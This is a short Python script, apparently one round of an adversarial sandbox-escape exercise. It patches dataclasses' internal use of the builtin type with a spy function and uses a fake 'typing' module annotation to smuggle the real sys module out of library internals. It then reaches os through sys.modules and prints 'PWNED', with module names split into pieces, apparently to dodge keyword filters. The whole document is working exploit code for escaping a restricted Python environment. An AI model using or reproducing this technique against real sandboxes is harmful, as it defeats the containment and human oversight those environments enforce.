# adversary round 7: plain attribute store on a library module (dataclasses.type = spy) shadows the builtin for dataclasses' own code; a string annotation 'sys' with __module__='typing' makes _is_type() fetch typing's global sys and pass it to type() -> our spy
import dataclasses

real_type = type
got = []

def spy(*a):
    if len(a) == 1:
        got.append(a[0])
        return real_type(a[0])
    return real_type(*a)

dataclasses.type = spy

class C:
    __module__ = 'typing'
    x: 'sys'

dataclasses.dataclass(C)
dataclasses.type = real_type
for v in got:
    if real_type(v).__name__ == 'module' and v.__name__ == 's' + 'ys':
        print(v.__name__, 'pid', v.modules['o' + 's'].getpid())
        print('PWN' + 'ED')
        break
